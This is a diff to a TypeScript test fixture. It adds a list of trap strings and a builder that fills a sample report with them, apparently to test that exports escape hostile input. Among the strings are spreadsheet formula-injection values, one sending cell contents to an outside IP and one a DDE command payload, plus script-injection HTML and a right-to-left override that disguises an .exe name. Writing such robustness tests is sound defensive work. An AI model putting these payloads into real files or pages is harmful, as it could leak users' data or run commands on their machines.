@@ -309,3 +309,80 @@ export function samplePaper(): Paper {
     version: { number: 2, changes: ["People helped: 485, was 480."] },
   };
 }
+
+/** What people and their enemies call things: each stands in a paper of traps as a name, a heading and a cell. */
+export const TRAPS = [
+  '=HYPERLINK("http://203.0.113.9/?"&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1;2)",
+  "\t=1+1",
+  "\r=1+1",
+  "＝1+1",
+  "<script>alert(1)</script>",
+  '</title></style><img src=x onerror="alert(1)">',
+  "]]>&amp;<!-- {{2}} %s",
+  "Safe\u202Egnp.exe\u2066 and \u200Bturned",
+  "Null\u0000 bell\u0007 and half \uD83D",
+  "👩‍👩‍👧‍👦 Families 🏳️‍🌈",
+  "Ośrodek Łódź – żółć",
+  "Canolfan Gŵyr a’r Ŷd",
+  "مركز الأمل للمساعدة",
+  "Κέντρο, Центр, מרכז התקווה",
+  "希望中心 আশা",
+  "  two  spaces  ",
+  "few",
+] as const;
+
+/** The sample with every name of it a trap, and texts as long as they may be. */
+export function trapPaper(): Paper {
+  const paper = samplePaper();
+  const table: PaperTable = {
+    name: "needs-by-domain",
+    caption: TRAPS[8],
+    columns: [
+      text("need", TRAPS[0]),
+      people("people", TRAPS[7], TRAPS[9]),
+      people("others", TRAPS[15], TRAPS[1]),
+    ],
+    rows: TRAPS.map((trap, at) => [trap, at % 3 === 0 ? "few" : at * 1_000, at % 3 === 1 ? null : -at]),
+  };
+  const [first, ...rest] = paper.sections;
+  if (!first) throw new Error("The sample has a section");
+  return {
+    ...paper,
+    basis: "exact",
+    from: TRAPS[8],
+    title: TRAPS[7],
+    lead: "letters".repeat(171),
+    headlines: TRAPS.slice(10, 15).map((trap) => ({ value: trap, what: trap, note: trap })),
+    sections: [
+      {
+        ...first,
+        title: TRAPS[15],
+        text: TRAPS.join("\n"),
+        blocks: [
+          {
+            kind: "chart",
+            name: "needs-by-domain",
+            title: TRAPS[0],
+            says: "x".repeat(1_200),
+            chart: {
+              kind: "bars",
+              whole: TRAPS[7],
+              part: TRAPS[16],
+              unit: TRAPS[8],
+              bars: TRAPS.map((trap) => ({ label: trap, whole: 10, part: 5, note: trap })),
+            },
+            table,
+          },
+        ],
+        notes: TRAPS.map((trap) => ({ term: trap, means: trap })),
+      },
+      ...rest.map((section) => ({ ...section, title: TRAPS[12], text: "word ".repeat(240) })),
+    ],
+    counted: TRAPS,
+    limits: TRAPS,
+    version: { number: 2, changes: TRAPS },
+  };
+}
